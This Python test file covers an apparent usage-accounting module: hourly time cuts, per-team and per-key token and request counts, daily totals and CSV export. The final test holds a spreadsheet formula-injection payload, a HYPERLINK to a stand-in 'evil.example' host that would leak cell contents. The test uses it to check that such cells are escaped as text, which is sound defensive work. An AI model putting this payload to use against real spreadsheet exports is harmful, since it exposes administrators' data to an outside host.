"""The usage table: counts add up per hour, team, key, endpoint and model; reads group hours
into days, filter, name keys, and write CSV; replica time is cut at hour boundaries."""

from __future__ import annotations

import csv
import io
from pathlib import Path

from appliance import keys, usage
from appliance.db import open_engine, session_scope

H = usage.HOUR_S
DAY = usage.DAY_S


def test_time_is_cut_at_hour_boundaries() -> None:
    assert usage.hour_pieces(H - 0.5, 2 * H + 100) == [(0, 0.5), (H, H), (2 * H, 100)]
    assert usage.hour_pieces(10, 10) == []
    assert usage.hour_of(2 * H + 5) == 2 * H


def test_counts_add_up_and_read_by_hour_and_day(tmp_path: Path) -> None:
    engine = open_engine(tmp_path / "a.db")
    with session_scope(engine) as session:
        row, _ = keys.create_key(session=session, secret=b"s", name="ci", team="red", user="r")
        key_id = row.id
    red = dict(team="red", key_id=key_id, endpoint="gemma", model="gemma.gguf")
    with session_scope(engine) as session:
        raw = usage.driver(session)
        usage.add(raw, [usage.Counts(DAY + H, **red, requests=2, prompt_tokens=10, errors=1)])
        usage.add(raw, [usage.Counts(DAY + H, **red, requests=1, completion_tokens=7)])
        usage.add(raw, [usage.Counts(DAY + 5 * H, **red, requests=4, prompt_tokens=1)])
        blue = usage.Counts(DAY + H, "blue", "", "llama", "m", replica_seconds=60, gpu_seconds=120)
        usage.add(raw, [blue])
    with session_scope(engine) as session:
        raw = usage.driver(session)
        hourly = usage.read(raw, usage.Query(DAY, 2 * DAY, H, team="red"))
        daily = usage.read(raw, usage.Query(0, 3 * DAY, DAY))
    assert [(x.period, x.requests, x.prompt_tokens, x.completion_tokens) for x in hourly] == [
        (DAY + H, 3, 10, 7),
        (DAY + 5 * H, 4, 1, 0),
    ]
    assert hourly[0].errors == 1 and hourly[0].key_name == "ci" and hourly[0].total_tokens == 17
    by_team = {x.team: x for x in daily}
    assert by_team["red"].period == DAY and by_team["red"].requests == 7
    assert by_team["blue"].gpu_seconds == 120 and by_team["blue"].key_id == ""
    assert usage.totals(daily)["requests"] == 7 and usage.totals(daily)["total_tokens"] == 18
    text = usage.to_csv(hourly, lambda stamp: f"t{stamp}")
    table = list(csv.DictReader(io.StringIO(text)))
    assert table[0]["period"] == f"t{DAY + H}" and table[0]["total_tokens"] == "17"
    assert table[1]["requests"] == "4" and table[0]["key_name"] == "ci"


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text() -> None:
    """A model name is any team's text, and the CSV an administrator opens holds every team's:
    a cell starting as a formula would (`=`, `+`, `-`, `@`, a tab or a carriage return) is
    written with a leading `'`, as spreadsheets read text; numbers stay numbers."""
    formula = '=HYPERLINK("http://evil.example/?"&A2,"x")'
    line = usage.Line(H, "red", "", "", "gemma", formula, 1, 2, 3, 0, 0.0, 0.0)
    negative = usage.Line(H, "red", "", "", "gemma", "-m", -1, 0, 0, 0, 0.0, 0.0)
    table = list(csv.DictReader(io.StringIO(usage.to_csv([line, negative], str))))
    assert table[0]["model"] == "'" + formula
    assert table[1]["model"] == "'-m" and table[1]["requests"] == "-1"
    assert table[0]["endpoint"] == "gemma" and table[0]["total_tokens"] == "5"
